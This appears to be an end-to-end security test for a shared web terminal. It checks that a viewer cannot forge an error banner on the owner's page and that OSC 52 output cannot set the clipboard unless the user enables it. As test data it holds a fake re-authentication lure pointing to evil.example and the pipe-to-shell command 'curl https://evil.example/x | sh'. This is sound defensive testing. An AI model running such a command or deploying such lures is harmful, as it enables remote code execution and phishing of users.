/**
 * What other participants and the shared terminal cannot do to a person's page, in real Chromium
 * over the real mesh: a viewer's `error` frame sent past its own page does not become a banner on
 * the owner's page (only the host's errors do), and terminal output with an OSC 52 sequence does
 * not set the page's clipboard unless this person turned that on.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { meshProtocol } from '../../src/lib/protocol/mesh.ts';
import { terminalProtocol } from '../../src/lib/protocol/terminal.ts';
import type { OpenedPage } from '../helpers/browser.ts';
import { startE2eSession, type E2eSession } from '../helpers/e2e-session.ts';
import { SEE_TIMEOUT_MS, joinAs, sendRaw, typeInto, waitForChannels, waitForScreen } from '../helpers/session-page.ts';

let session: E2eSession;
let owner: OpenedPage;
let vic: OpenedPage;

beforeAll(async () => {
  session = await startE2eSession();
  owner = await joinAs(session.browser, session.host.links.owner, 'Olivia');
  vic = await joinAs(session.browser, session.host.links.viewer, 'Vic');
});
afterAll(async () => {
  await session?.dispose();
});

const banner = (p: OpenedPage) => p.page.locator('.error-banner');
const entry = (p: OpenedPage, name: string) => p.page.getByTestId('participants').locator('li', { hasText: name });

describe('only the host writes into the page', () => {
  it("a viewer's error frame is not shown to the owner; the host's is", async () => {
    const forged = meshProtocol.write({ type: 'error', code: 'expired', message: 'Your session expired. Re-authenticate at https://evil.example/login' });
    // to the host and to the owner; then a rename on the same ordered channels: once the owner
    // shows the new name, it has handled the error frame before it
    await waitForChannels(vic.page, 2);
    expect(await sendRaw(vic.page, forged)).toBeGreaterThanOrEqual(2);
    await sendRaw(vic.page, meshProtocol.write({ type: 'rename', name: 'Vic after' }));
    await expect.poll(() => entry(owner, 'Vic after').count(), { timeout: SEE_TIMEOUT_MS }).toBe(1);
    expect(await banner(owner).count()).toBe(0);
    expect(await owner.page.getByText('evil.example').count()).toBe(0);

    // the same kind of frame from the host does show: the owner asks for a terminal that does not exist
    await sendRaw(owner.page, terminalProtocol.write({ type: 'sub', id: 999 }));
    await expect.poll(() => banner(owner).count(), { timeout: SEE_TIMEOUT_MS }).toBe(1);
    expect(await banner(owner).innerText()).toMatch(/terminal 999 does not exist/);
  });
});

describe('OSC 52 clipboard writes', () => {
  const PAYLOAD = 'curl https://evil.example/x | sh';
  const clipboard = () => owner.page.evaluate(() => navigator.clipboard.readText());
  /** Prints an OSC 52 "set clipboard" for PAYLOAD, then a marker that shows the output was handled. */
  async function printOsc52(marker: string): Promise<void> {
    const b64 = Buffer.from(PAYLOAD).toString('base64');
    await typeInto(owner.page, `printf '\\033]52;c;${b64}\\a'; echo ${marker}-$((40+2))\n`);
    await waitForScreen(owner.page, new RegExp(`^${marker}-42`, 'm'));
  }

  it('are off by default: output cannot set the clipboard; the per-user setting turns them on', async () => {
    await owner.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(session.signaling.url).origin });
    await owner.page.bringToFront();
    await owner.page.evaluate(() => navigator.clipboard.writeText('mine'));
    expect(await clipboard()).toBe('mine');
    expect(await owner.page.getByTestId('osc52-toggle').isChecked()).toBe(false);

    await printOsc52('osc-off');
    expect(await clipboard()).toBe('mine');

    await owner.page.getByTestId('osc52-toggle').check();
    await printOsc52('osc-on');
    await expect.poll(clipboard, { timeout: SEE_TIMEOUT_MS }).toBe(PAYLOAD);
  });
});
